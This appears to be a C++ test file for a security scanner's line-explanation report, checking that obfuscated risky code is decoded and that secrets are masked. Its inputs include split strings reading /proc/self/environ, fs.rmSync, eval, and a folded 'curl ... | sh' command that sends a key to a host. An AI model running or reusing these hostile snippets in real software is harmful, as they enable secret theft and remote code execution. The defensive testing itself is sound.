#include "pipeline/report/explanation.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "tests/support/pipeline/gate_fixture.h"

namespace guard {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const std::string kPath = "sandbox/a.test.ts";

struct Explainer {
  Config config;
  std::vector<KnownSecret> known;
  std::string path = kPath;
  const RuleSet* rules = &test_rules();
  const Matcher* matcher = &test_matcher();

  Result<ExplainedLine> operator()(const std::string& text, std::uint32_t line, std::string_view named) const {
    const auto secrets = SecretSource::shipped(known).value();
    GateRequest request;
    request.rules = rules;
    request.matcher = matcher;
    request.config = &config;
    request.secrets = [&]() -> Result<const SecretSource*> { return &secrets; };
    return explain_line(request, SourceFiles{{{path, text}}, {}}, named, line, "host");
  }
  // Text and document together.
  std::string operator()(const std::string& text, std::uint32_t line) const {
    const auto explained = (*this)(text, line, path);
    EXPECT_TRUE(explained) << (explained ? "" : explained.error().to_string());
    return explained ? explanation_text(*explained, Colour::off) + explanation_document(*explained) : std::string();
  }
};

TEST(Explanation, SaysHowTheLineIsReadAndWhatFired) {
  const std::string told = Explainer()("const p = \"/pr\" + \"oc/self/environ\";\n", 1);
  EXPECT_THAT(told, HasSubstr("sandbox/a.test.ts:1\n  source   const p = "));
  EXPECT_THAT(told, HasSubstr("  strings  \"/proc/self/environ\"\n"));
  EXPECT_THAT(told, HasSubstr("found here:\n  always.proc_file: "));
  EXPECT_THAT(told, HasSubstr("    reads as: /proc/self/environ\n"));
  EXPECT_THAT(told, HasSubstr("this one alone"));
}

TEST(Explanation, TheDocumentSaysTheSame) {
  const auto explained = Explainer()("fs.rmSync(d);\n// eval(x)\n", 1, "./sandbox/../sandbox/a.test.ts");
  ASSERT_TRUE(explained);
  const auto document = nlohmann::json::parse(explanation_document(*explained));
  EXPECT_EQ(document["version"], 1);
  EXPECT_EQ(document["rules"][0]["rule"], "host.fs_remove");
  EXPECT_EQ(document["rules"][0]["story"], "fired");
  EXPECT_EQ(document["views"][0]["view"], "raw");
}

TEST(Explanation, KnowsWaivers) {
  Explainer explainer;
  const std::string text = "fs.rmSync(d);\n";
  const auto record = Gate()({{kPath, text}});
  explainer.config.check.waivers.push_back(
      {"host.fs_remove", kPath, record.report.findings.at(0).fingerprint, "it is ours", "2999-12-31", "guard.toml:4"});
  const std::string told = explainer(text, 1);
  EXPECT_THAT(told, HasSubstr("found here, and waived:\n  host.fs_remove: "));
  EXPECT_THAT(told, HasSubstr("waived by guard.toml:4 until 2999-12-31: it is ours"));
  explainer.config.check.waivers[0].expires = "2001-01-01";
  EXPECT_THAT(explainer(text, 1), HasSubstr("found here:\n"));
}

TEST(Explanation, SecretsAreMaskedWhereverTheyShow) {
  const std::string key = made_up_key();
  const std::string whole = Explainer()("const k = '" + key + "'; // " + key + "\n", 1);
  EXPECT_THAT(whole, Not(HasSubstr(key.substr(0, 12))));
  const std::string folded = Explainer()(
      "run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n", 1);
  EXPECT_THAT(folded, Not(HasSubstr(key)));
  EXPECT_THAT(folded, HasSubstr("reads as: curl"));
  EXPECT_THAT(Explainer()("const k = '" + key + "';\n", 0), Not(HasSubstr(key.substr(0, 12))));
}

// By itself a line of a private key looks like nothing.
TEST(Explanation, ALineOfALongerSecretIsMasked) {
  const std::string line = "q7Zk3vW9" + std::string("xB2mN5rT");
  const std::string text = "const k = `-----BEGIN PRIVATE" + std::string(" KEY-----\n") + line + "\n" + line +
      "\n-----END PRIVATE" + " KEY-----`;\n";
  EXPECT_THAT(Explainer()(text, 2), Not(HasSubstr(line)));
}

TEST(Explanation, KnownValuesInNamesAreMasked) {
  const std::string value = "correct-horse-" + std::string("battery-staple");
  Explainer explainer;
  explainer.known = {{"DEPLOY_KEY", value}};
  explainer.path = "sandbox/" + value + ".ts";
  EXPECT_THAT(
      explainer("const z = process.env.SECRET_X; console.log(z); f('" + value + "');\n", 1), Not(HasSubstr(value)));
}

TEST(Explanation, HostileBytesArePrintable) {
  const auto explained = Explainer()("f('\x1b[31m\u202e'); '\x1b'; // \x1b]0;x\x07\n", 1, kPath);
  ASSERT_TRUE(explained);
  const std::string text = explanation_text(*explained, Colour::off);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_EQ(text.find("\u202e"), std::string::npos);
}

TEST(Explanation, AFileThatIsNotThereIsAnError) {
  const auto missing = Explainer()("1;\n", 1, "sandbox/b.test.ts");
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code(), ErrorCode::file_not_found);
}

}  // namespace
}  // namespace guard
